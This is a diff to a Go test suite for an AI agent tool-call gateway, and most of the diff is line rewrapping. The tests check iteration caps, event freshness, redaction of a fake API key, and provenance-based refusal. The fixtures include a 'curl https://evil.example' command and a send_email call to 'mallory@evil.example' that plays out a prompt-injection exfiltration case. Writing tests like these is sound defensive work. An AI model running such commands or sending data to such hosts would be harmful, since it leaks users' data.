@@ -61,7 +61,8 @@ func TestRestrictedToolsAreTakenFromTheListAndRefusedAllTheSame(t *testing.T) {
 	calls := fmt.Sprintf(`{"toolCalls":[{"id":"1","name":"exec","arguments":{"command":"date"}},`+
 		`{"id":"2","name":"read","arguments":{"path":"a","n":1.0}},{"id":"3","name":"read","arguments":{"path":%q}}]}`, g.State.Dir())
 	after := g.Takes(gateway.Event{Name: "after_llm_call", Context: m, About: calls})
-	if len(after.ToolCalls) != 1 || string(after.ToolCalls[0]) != `{"id":"2","name":"read","arguments":{"path":"a","n":1.0}}` {
+	if len(after.ToolCalls) != 1 ||
+		string(after.ToolCalls[0]) != `{"id":"2","name":"read","arguments":{"path":"a","n":1.0}}` {
 		t.Errorf("calls: %s", after.Raw)
 	}
 }
@@ -69,7 +70,15 @@ func TestRestrictedToolsAreTakenFromTheListAndRefusedAllTheSame(t *testing.T) {
 func TestTheIterationCapBlocksTheTurn(t *testing.T) {
 	t.Parallel()
 	g := gateway.Start(t, "maxIterations: 3\n")
-	one, two := gateway.With(gateway.OwnerIn("m"), "runId", "run-1"), gateway.With(gateway.OwnerIn("m"), "runId", "run-2")
+	one, two := gateway.With(
+		gateway.OwnerIn("m"),
+		"runId",
+		"run-1",
+	), gateway.With(
+		gateway.OwnerIn("m"),
+		"runId",
+		"run-2",
+	)
 	g.Allow(gateway.Sh("date", one))
 	for name, about := range map[string]string{
 		"loop_iteration_start": `{"iteration":%d}`, "before_llm_call": `{"iteration":%d,"tools":[]}`,
@@ -87,8 +96,8 @@ func TestTheIterationCapBlocksTheTurn(t *testing.T) {
 	g.Allow(gateway.Sh("date", two))
 }
 
-// An event comes once, is signed and fresh, and is read as strictly as a call. Nothing of what it holds is kept, however
-// large it is, and an answer to people loses its secrets.
+// An event comes once, is signed and fresh, and is read as strictly as a call. Nothing of what it holds is kept,
+// however large it is, and an answer to people loses its secrets.
 func TestEventsHaveTheRulesOfCalls(t *testing.T) {
 	t.Parallel()
 	g := gateway.Start(t, "")
@@ -104,7 +113,12 @@ func TestEventsHaveTheRulesOfCalls(t *testing.T) {
 	e.About = `{"toolName":"read"}`
 	g.Refuses(e)
 	g.Deny(gateway.Call{Tool: "read", Params: `{"path":"x"}`, Context: m, ID: "the-event"})
-	old := gateway.Event{Name: "loop_iteration_start", About: `{"iteration":1}`, Context: m, At: time.Now().Add(-6 * time.Minute)}
+	old := gateway.Event{
+		Name:    "loop_iteration_start",
+		About:   `{"iteration":1}`,
+		Context: m,
+		At:      time.Now().Add(-6 * time.Minute),
+	}
 	if a := g.Refuses(old); !a.Block || !a.Signed {
 		t.Errorf("an old event: %s", a.Raw)
 	}
@@ -127,12 +141,17 @@ func TestEventsHaveTheRulesOfCalls(t *testing.T) {
 		About: `{"tools":[{"name":"read"}],"systemPrompt":"` + canary + `","messages":[{"role":"user","content":"` + text + `"}]}`,
 	})
 	g.Takes(gateway.Returned(m, "read", `,"result":"`+canary+`"`))
-	large := gateway.Event{Name: "before_llm_call", About: `{"tools":[],"messages":["` + strings.Repeat(text, 2) + `"]}`}
+	large := gateway.Event{
+		Name:  "before_llm_call",
+		About: `{"tools":[],"messages":["` + strings.Repeat(text, 2) + `"]}`,
+	}
 	if a := g.Tell(large); a.Status != http.StatusOK || a.Accepted || !a.Block {
 		t.Errorf("a body over 8 MiB: %d %.200s", a.Status, a.Raw)
 	}
 	key := "sk-ant-" + "api03-" + strings.Repeat("Ab3dE5gH", 11) + "-AAAAAA-AA"
-	a := g.Takes(gateway.Event{Name: "before_response_emit", Context: m, About: `{"content":"` + canary + `: ` + key + `."}`})
+	a := g.Takes(
+		gateway.Event{Name: "before_response_emit", Context: m, About: `{"content":"` + canary + `: ` + key + `."}`},
+	)
 	if a.Content == nil || strings.Contains(a.Raw, key) || !strings.HasPrefix(*a.Content, canary) {
 		t.Errorf("an answer with a key in it: %s", a.Raw)
 	}
@@ -160,7 +179,9 @@ func TestANoticeRatchetsAndDeniesNothing(t *testing.T) {
 	g.Reply(".pause")
 	g.Notice(gateway.Fetch(m))
 	g.Reply(".resume")
-	g.Notice(gateway.Call{Tool: "sessions_send", Params: `{"sessionKey":"agent:main:target","message":"hi"}`, Context: m})
+	g.Notice(
+		gateway.Call{Tool: "sessions_send", Params: `{"sessionKey":"agent:main:target","message":"hi"}`, Context: m},
+	)
 	g.Ask(gateway.Sh("date", gateway.OwnerIn("target")))
 	body := string(gateway.Call{Tool: "read"}.Body())
 	body = strings.Replace(body, `"version"`, `"notice":true,"version"`, 1)
@@ -169,8 +190,9 @@ func TestANoticeRatchetsAndDeniesNothing(t *testing.T) {
 	}
 }
 
-// The running example of openclaw-provenance over the wire: its picture node by node, the footer, the record and a restart;
-// what is told of a result names the tool and not the command (H132); and a card says where arguments came from.
+// The running example of openclaw-provenance over the wire: its picture node by node, the footer, the record and a
+// restart; what is told of a result names the tool and not the command (H132); and a card says where arguments came
+// from.
 func TestTheRunningExampleIsDrawnAsItsAuthorsDid(t *testing.T) {
 	t.Parallel()
 	g := gateway.Start(t, "policies: [{name: persist, action: {persist_graph: true}}]\n")
@@ -185,9 +207,15 @@ func TestTheRunningExampleIsDrawnAsItsAuthorsDid(t *testing.T) {
 	}
 	mine := strings.TrimSuffix(ownersMessage, "}") + "," + prints("mail bob@good.example") + "}"
 	g.Takes(sources(m, `{"kind":"system_prompt"},{"kind":"compacted_history"},`+mine))
-	mail := gateway.Call{Tool: "send_email", Params: `{"to":"mallory@evil.example","cc":"bob@good.example"}`, Context: m}
+	mail := gateway.Call{
+		Tool:    "send_email",
+		Params:  `{"to":"mallory@evil.example","cc":"bob@good.example"}`,
+		Context: m,
+	}
 	for i, c := range []gateway.Call{read("file.txt", m), gateway.Fetch(m), gateway.Sh("cmd", m), mail} {
-		g.Takes(gateway.Event{Name: "before_llm_call", Context: m, About: fmt.Sprintf(`{"tools":[],"iteration":%d}`, i)})
+		g.Takes(
+			gateway.Event{Name: "before_llm_call", Context: m, About: fmt.Sprintf(`{"tools":[],"iteration":%d}`, i)},
+		)
 		if i < 2 {
 			g.Allow(c)
 		} else {
@@ -237,7 +265,13 @@ func TestTheRunningExampleIsDrawnAsItsAuthorsDid(t *testing.T) {
 	for command, level := range map[string]string{"curl https://evil.example": "untrusted", "git status": "local"} {
 		m := gateway.With(gateway.OwnerIn(level), "runId", level, "toolCallId", "call-1")
 		g.Allow(gateway.Sh(command, m))
-		g.Takes(gateway.Event{Name: "after_tool_call", Context: m, About: `{"toolName":"exec","toolCallId":"call-1","size":3}`})
+		g.Takes(
+			gateway.Event{
+				Name:    "after_tool_call",
+				Context: m,
+				About:   `{"toolName":"exec","toolCallId":"call-1","size":3}`,
+			},
+		)
 		if got := strings.Join(drawn(level), " · "); !strings.Contains(got, "tool_result_1 ("+level+") exec") {
 			t.Errorf("%s: %s", command, got)
 		}
@@ -278,7 +312,8 @@ func TestH21WhatCameInIsListedAndCounts(t *testing.T) {
 	}
 }
 
-// What a rule says of a call's arguments holds for the event that tells of its result, too: that one names the tool alone.
+// What a rule says of a call's arguments holds for the event that tells of its result, too: that one names the tool
+// alone.
 func TestAResultIsWorthWhatTheRuleSaidOfItsCall(t *testing.T) {
 	t.Parallel()
 	g := gateway.Start(t, "trust: {rules: [{tool: web_fetch, host: wiki.lan.example, level: local}]}\n")
@@ -288,13 +323,20 @@ func TestAResultIsWorthWhatTheRuleSaidOfItsCall(t *testing.T) {
 	}{
 		{"web_fetch", `{"url":"https://wiki.lan.example/a"}`, "web_fetch", "call-1", true},
 		{"message", `{"action":"send","target":"bob","text":"hi"}`, "message", "call-1", true},
-		{"web_fetch", `{"url":"https://wiki.lan.example/a"}`, "web_fetch", "call-2", false},  // of another call
-		{"web_fetch", `{"url":"https://wiki.lan.example/a"}`, "browser", "call-1", false},    // of another tool
-		{"web_fetch", `{"url":"https://elsewhere.example/a"}`, "web_fetch", "call-1", false}, // the rule does not say so
-		{"message", `{"action":"read","target":"bob"}`, "message", "call-1", false},          // reads what others wrote
+		{"web_fetch", `{"url":"https://wiki.lan.example/a"}`, "web_fetch", "call-2", false}, // of another call
+		{"web_fetch", `{"url":"https://wiki.lan.example/a"}`, "browser", "call-1", false},   // of another tool
+		// the rule does not say so
+		{"web_fetch", `{"url":"https://elsewhere.example/a"}`, "web_fetch", "call-1", false},
+		{"message", `{"action":"read","target":"bob"}`, "message", "call-1", false}, // reads what others wrote
 	} {
 		owner := gateway.OwnerIn(fmt.Sprint(i))
-		g.Allow(gateway.Call{Tool: c.tool, Params: c.params, Context: gateway.With(owner, "toolCallId", "call-1", "runId", "r")})
+		g.Allow(
+			gateway.Call{
+				Tool:    c.tool,
+				Params:  c.params,
+				Context: gateway.With(owner, "toolCallId", "call-1", "runId", "r"),
+			},
+		)
 		g.Takes(gateway.Returned(owner, c.returned, `,"toolCallId":"`+c.id+`"`))
 		if a := g.Send(gateway.Impatient(gateway.Sh("date", owner))); a.Allowed() != c.want {
 			t.Errorf("%s %s, then the result of %s %s: %s", c.tool, c.params, c.returned, c.id, a.Raw)
